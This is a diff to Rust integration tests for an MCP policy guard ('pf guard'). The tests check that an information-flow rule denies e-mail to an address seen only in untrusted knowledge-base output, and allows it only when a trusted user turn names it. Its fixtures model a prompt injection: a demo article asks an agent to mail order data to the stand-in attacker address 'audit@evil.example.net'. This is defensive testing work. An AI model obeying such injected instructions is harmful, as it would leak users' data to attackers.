@@ -2,8 +2,8 @@
 //! support agent's spec: hidden tools, allowed calls, denials in MCP's own form, a prompt
 //! injection stopped by information flow, protocol errors answered, every decision logged.
 
-use std::io::{BufRead, BufReader, Write};
-use std::path::Path;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::path::{Path, PathBuf};
 use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
 
 use serde_json::{Value, json};
@@ -14,23 +14,29 @@ struct Session {
     stdout: BufReader<ChildStdout>,
 }
 
+fn support_spec() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/support-agent/agent.yaml")
+}
+
 impl Session {
     fn start(log: &Path) -> Session {
+        Session::start_with(&support_spec(), log, &[])
+    }
+
+    /// `pf guard --spec SPEC --log LOG EXTRA... -- pf guard demo-tools`.
+    fn start_with(spec: &Path, log: &Path, extra: &[&str]) -> Session {
         let pf = env!("CARGO_BIN_EXE_pf");
-        let spec =
-            Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/support-agent/agent.yaml");
+        let mut args = vec![
+            "guard",
+            "--spec",
+            spec.to_str().expect("utf-8"),
+            "--log",
+            log.to_str().expect("utf-8"),
+        ];
+        args.extend_from_slice(extra);
+        args.extend_from_slice(&["--", pf, "guard", "demo-tools"]);
         let mut child = Command::new(pf)
-            .args([
-                "guard",
-                "--spec",
-                spec.to_str().expect("utf-8"),
-                "--log",
-                log.to_str().expect("utf-8"),
-                "--",
-                pf,
-                "guard",
-                "demo-tools",
-            ])
+            .args(&args)
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
             .stderr(Stdio::inherit())
@@ -204,5 +210,182 @@ fn guard_without_a_server_command_fails_with_a_message() {
     assert!(
         err.contains("no MCP server") && err.contains("--upstream URL"),
         "{err}"
+    );
+}
+
+fn log_records(log: &Path) -> Vec<Value> {
+    std::fs::read_to_string(log)
+        .expect("log written")
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("JSON line"))
+        .collect()
+}
+
+#[test]
+fn requests_sent_just_before_the_client_closes_are_still_answered() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let log = dir.path().join("decisions.jsonl");
+    let mut s = Session::start(&log);
+    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "test", "version": "0"}}});
+    let lookup = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+                        "params": {"name": "lookup_order", "arguments": {"order_id": "ORD-123456"}}});
+
+    // The client sends two requests and closes its end at once, without waiting.
+    write!(s.stdin, "{init}\n{lookup}\n").expect("write");
+    drop(s.stdin);
+    let mut out = String::new();
+    s.stdout.read_to_string(&mut out).expect("read");
+    let status = s.child.wait().expect("guard exits");
+
+    assert!(status.success(), "{status:?}");
+    let replies: Vec<Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("JSON line"))
+        .collect();
+    let ids: Vec<&Value> = replies.iter().map(|r| &r["id"]).collect();
+    assert_eq!(ids, [&json!(1), &json!(2)], "{out}");
+    let order = &replies[1]["result"];
+    assert_eq!(order["isError"], json!(false), "{order}");
+    assert!(text(order).contains("ORD-123456"), "{order}");
+    // The late answer went through the output check like any other.
+    let records = log_records(&log);
+    assert!(
+        records
+            .iter()
+            .any(|r| r["kind"] == "output" && r["tool"] == "lookup_order"),
+        "{records:?}"
+    );
+}
+
+/// search_kb's output is untrusted; e-mail may go to an address seen there only when the user
+/// named it (`unless: [user_request]`).
+const USER_TURN_SPEC: &str = r#"
+name: user-turn-agent
+version: 1.0.0
+capabilities:
+  - name: search_kb
+    kind: tool
+    waiver: CLI test
+    output_labels: [untrusted]
+  - name: send_email
+    kind: email
+    waiver: CLI test
+    constraints:
+      args:
+        to: { max_length: 254 }
+policies:
+  - name: no-untrusted-recipients
+    type: information_flow
+    deny_labels: [untrusted]
+    sinks: [send_email.to]
+    unless: [user_request]
+"#;
+
+/// Where the demo knowledge base's injected article asks for mail to go.
+const KB_ADDRESS: &str = "audit@evil.example.net";
+
+/// Reads the knowledge base, then e-mails [`KB_ADDRESS`], passing `user_request` (the user's
+/// turn, as the host would) in the call's `_meta`; returns the e-mail call's reply and the log.
+fn email_the_kb_address(trust_flag: bool, user_request: Option<Value>) -> (Value, Vec<Value>) {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let spec = dir.path().join("agent.yaml");
+    std::fs::write(&spec, USER_TURN_SPEC).expect("spec");
+    let log = dir.path().join("decisions.jsonl");
+    let extra: &[&str] = if trust_flag {
+        &["--trust-user-request"]
+    } else {
+        &[]
+    };
+    let mut s = Session::start_with(&spec, &log, extra);
+
+    let kb = s.call(1, "search_kb", json!({"query": "refunds"}));
+    assert!(text(&kb).contains(KB_ADDRESS), "{kb}");
+    let mut params = json!({"name": "send_email",
+                            "arguments": {"to": KB_ADDRESS, "subject": "orders", "body": "all"}});
+    if let Some(u) = user_request {
+        params["_meta"] = json!({"provability-fabric/user-request": u});
+    }
+    let reply = s.request(2, "tools/call", params);
+
+    drop(s.stdin);
+    let status = s.child.wait().expect("guard exits");
+    assert!(status.success(), "{status:?}");
+    (reply, log_records(&log))
+}
+
+fn email_decision(records: &[Value]) -> (String, Vec<String>) {
+    let r = records
+        .iter()
+        .find(|r| r["kind"] == "call" && r["tool"] == "send_email")
+        .unwrap_or_else(|| panic!("no send_email decision in {records:?}"));
+    let reasons = r["reasons"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .filter_map(|c| c.as_str().map(String::from))
+                .collect()
+        })
+        .unwrap_or_default();
+    (r["effect"].as_str().unwrap_or("").to_string(), reasons)
+}
+
+fn user_turn() -> Option<Value> {
+    Some(json!(format!(
+        "Please forward my order details to {KB_ADDRESS}"
+    )))
+}
+
+#[test]
+fn with_trust_user_request_an_address_the_user_named_may_receive_email() {
+    let (reply, records) = email_the_kb_address(true, user_turn());
+
+    assert_eq!(reply["result"]["isError"], json!(false), "{reply}");
+    assert_eq!(text(&reply["result"]), format!("sent to {KB_ADDRESS}"));
+    assert_eq!(email_decision(&records).0, "allow");
+}
+
+#[test]
+fn with_trust_user_request_but_no_user_turn_the_flow_rule_denies() {
+    let (reply, records) = email_the_kb_address(true, None);
+
+    assert_eq!(reply["result"]["isError"], json!(true), "{reply}");
+    assert!(
+        text(&reply["result"]).contains("information_flow"),
+        "{reply}"
+    );
+    assert_eq!(email_decision(&records).0, "deny");
+}
+
+#[test]
+fn without_trust_user_request_the_user_turn_is_ignored_and_the_call_denied() {
+    let (reply, records) = email_the_kb_address(false, user_turn());
+
+    // Ignored, not refused: the call is decided as if no user turn had been passed.
+    assert_eq!(reply["result"]["isError"], json!(true), "{reply}");
+    assert!(
+        text(&reply["result"]).contains("information_flow"),
+        "{reply}"
+    );
+    assert_eq!(email_decision(&records).0, "deny");
+}
+
+#[test]
+fn a_malformed_user_turn_is_refused_only_when_trusted() {
+    // Trusted: the host broke the contract, so the call is refused with invalid params.
+    let (reply, records) = email_the_kb_address(true, Some(json!(42)));
+    assert_eq!(reply["error"]["code"], json!(-32602), "{reply}");
+    let (effect, reasons) = email_decision(&records);
+    assert_eq!(effect, "deny");
+    assert!(
+        reasons.iter().any(|r| r == "user_request.invalid"),
+        "{reasons:?}"
+    );
+
+    // Untrusted: ignored like a well-formed one; the policy decides.
+    let (reply, _) = email_the_kb_address(false, Some(json!(42)));
+    assert_eq!(reply["result"]["isError"], json!(true), "{reply}");
+    assert!(
+        text(&reply["result"]).contains("information_flow"),
+        "{reply}"
     );
 }
